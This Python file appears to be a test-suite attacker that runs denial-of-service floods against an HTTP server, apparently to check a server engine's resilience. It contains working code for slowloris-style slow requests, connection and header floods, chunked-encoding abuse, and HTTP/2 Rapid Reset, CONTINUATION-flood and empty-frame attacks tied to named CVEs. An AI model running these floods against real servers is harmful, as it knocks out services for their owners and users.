"""Attacks, each until it is killed. `python -m tests.engine.attack.attacker NAME ADDRESS PORT` prints `under way`."""

import contextlib
import os
import resource
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
# GET http :path=/ :authority=a, from HPACK's static table (RFC 7541 appendix A).
HEADERS = b"\x82\x86\x84\x41\x01a"
DATA, HEADERS_FRAME, RESET, CONTINUATION = 0, 1, 3, 9
END_STREAM, END_HEADERS = 1, 4
THREADS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(target: tuple[str, int], count: int, request: bytes) -> list[socket.socket]:
    """Many connections, each with this sent."""
    connections = []
    for _ in range(count):
        try:
            connection = socket.create_connection(target, 10)
            connection.sendall(request)
        except OSError:
            continue
        connection.setblocking(False)
        connections.append(connection)
    return connections


def drip(target: tuple[str, int], count: int, request: bytes, piece: bytes, every: float) -> None:
    """Many connections that send a little now and then."""
    connections = connect(target, count, request)
    under_way()
    while True:
        begun = time.monotonic()
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.send(piece)
        time.sleep(max(0.0, every - (time.monotonic() - begun)))


def pour(target: tuple[str, int], pieces: Callable[[], Iterator[bytes]]) -> None:
    """A few connections that send as fast as they can; a new one whenever one ends."""

    def run() -> None:
        while True:
            with contextlib.suppress(OSError), socket.create_connection(target, 10) as connection:
                for piece in pieces():
                    connection.sendall(piece)
                while connection.recv(1 << 16):
                    pass

    for _ in range(THREADS):
        threading.Thread(target=run, daemon=True).start()
    time.sleep(0.3)
    under_way()
    threading.Event().wait()


def under_way() -> None:
    sys.stdout.write("under way\n")
    sys.stdout.flush()


def slow_heads(target: tuple[str, int]) -> None:
    drip(target, 2_000, b"GET / HTTP/1.1\r\nHost: a\r\nX: ", b"x", 0.2)


def slow_bodies(target: tuple[str, int]) -> None:
    drip(target, 1_000, b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", b"x", 0.2)


def many_connections(target: tuple[str, int]) -> None:
    drip(target, 10_000, b"", b"", 1)


def header_bombs(target: tuple[str, int]) -> None:
    head = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: y\r\n" % number for number in range(100_000))
    pour(target, lambda: iter([head, b"\r\n"]))


def tiny_chunks(target: tuple[str, int]) -> None:
    def pieces() -> Iterator[bytes]:
        yield b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
        chunks = b"1\r\nx\r\n" * 10_000
        while True:
            yield chunks

    pour(target, pieces)


def chunk_extensions(target: tuple[str, int]) -> None:
    def pieces() -> Iterator[bytes]:
        yield b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;"
        extension = b"e" * 1_000_000
        for _ in range(100):
            yield extension

    pour(target, pieces)


def rapid_reset(target: tuple[str, int]) -> None:
    """CVE-2023-44487: requests that are given up at once."""
    batches = []
    for first in range(1, 200_001, 2_000):
        streams = range(first, first + 2_000, 2)
        pairs = (
            frame(HEADERS_FRAME, END_STREAM | END_HEADERS, stream, HEADERS) + frame(RESET, 0, stream, b"\0\0\0\x08")
            for stream in streams
        )
        batches.append(b"".join(pairs))
    pour(target, lambda: iter([PREFACE, *batches]))


def continuation_flood(target: tuple[str, int]) -> None:
    """CVE-2024-27316 and others: a head that never ends."""

    def pieces() -> Iterator[bytes]:
        yield PREFACE + frame(HEADERS_FRAME, END_STREAM, 1, HEADERS)
        field = b"\x00\x03x-a\x7d" + b"y" * 125
        more = frame(CONTINUATION, 0, 1, field * 120) * 10
        for _ in range(1_000):
            yield more

    pour(target, pieces)


def empty_frames(target: tuple[str, int]) -> None:
    """CVE-2019-9518: frames of a body that carry nothing."""

    def pieces() -> Iterator[bytes]:
        post = b"\x83\x86\x44\x07/upload\x41\x01a"
        yield PREFACE + frame(HEADERS_FRAME, END_HEADERS, 1, post)
        empty = frame(DATA, 0, 1, b"") * 1_000
        for _ in range(1_000):
            yield empty

    pour(target, pieces)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        slow_heads,
        slow_bodies,
        many_connections,
        header_bombs,
        tiny_chunks,
        chunk_extensions,
        rapid_reset,
        continuation_flood,
        empty_frames,
    )
}

if __name__ == "__main__":
    # What is measured is how the others fare, not how the machine's two cores are shared among processes.
    os.nice(19)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    ATTACKS[sys.argv[1]]((sys.argv[2], int(sys.argv[3])))
